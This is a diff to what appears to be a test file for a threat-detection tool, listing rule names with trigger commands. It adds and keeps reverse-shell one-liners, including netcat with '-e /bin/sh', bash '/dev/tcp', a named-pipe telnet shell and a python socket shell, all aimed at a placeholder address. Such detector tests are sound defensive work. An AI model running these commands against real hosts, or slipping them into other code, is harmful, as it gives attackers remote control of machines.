@@ -1,5 +1,23 @@
+## Reverse shell
+#also Input and output tied to a connection with another machine
+#also Reverse shell by bash's own network
+remote 'true'
+## Command of a reverse shell
+#also Identity asked from a service's shell
+#also Input and output tied to a connection with another machine
+#also Reverse shell
+#also Reverse shell by bash's own network
+remote 'id'
+## Network tool given a shell
+timeout 1 busybox nc 203.0.113.9 4445 -e /bin/sh
+## Terminal made for a shell
+timeout 1 python3 -c 'import pty; pty.spawn("/bin/true")'
+## Reverse shell given a terminal
+#also Input and output tied to a connection with another machine
+#also Reverse shell
+#also Reverse shell by bash's own network
+remote "python3 -c 'import pty; pty.spawn(\"/bin/true\")'"
 ## Reverse shell by bash's own network
-#also Shell connects to the network
 bash -c 'bash -i >& /dev/tcp/203.0.113.9/4445 0>&1'
 ## Reverse shell through a named pipe
 #also Named pipe in a scratch folder written by a shell
@@ -9,13 +27,11 @@ sh -c 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | timeout 1 telnet 203.0.113.9 444
 python3 -c 'import socket,os; s=socket.socket(); s.connect(("203.0.113.9",4445)); os.dup2(s.fileno(),0); os.system("/bin/sh")'
 ## Shell with a connection, of a program that no package installed
 #also Command of a reverse shell
-#also Connection to a port of mining pools
 #also Input and output tied to a connection with another machine
 #also Reverse shell
 #also Reverse shell by bash's own network
-#also Shell connects to the network
 #setup shells /home/ann/tool
-remote '/home/ann/tool -c "sh -c true; true"'
+remote '/home/ann/tool -c "sh -c true > /dev/null; true"'
 ## Input and output tied to a connection with another machine
 #also Code without a file connects to an unusual port of an address without a name
 #also Reverse shell in one line of an interpreter
